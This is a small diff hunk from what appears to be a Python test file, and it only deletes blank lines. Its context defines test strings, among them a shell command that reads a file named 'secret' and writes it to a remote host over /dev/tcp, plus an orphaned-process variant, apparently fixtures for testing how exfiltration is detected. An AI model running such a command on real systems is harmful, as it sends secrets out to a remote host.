@@ -18,8 +18,6 @@ def test_program_goes_on(case, outcome):
 
 
 SUBSHELL = "x=$(tr '\\n' ' ' < secret); (echo first $x > /dev/tcp/remote/9; echo second $x > /dev/tcp/remote/9)"
-
-
 # Its parent ends while it is made.
 ORPHAN = SUBSHELL.replace("(echo", "((sleep 0.3; echo").replace("9)", "9) & ); sleep 2")
 
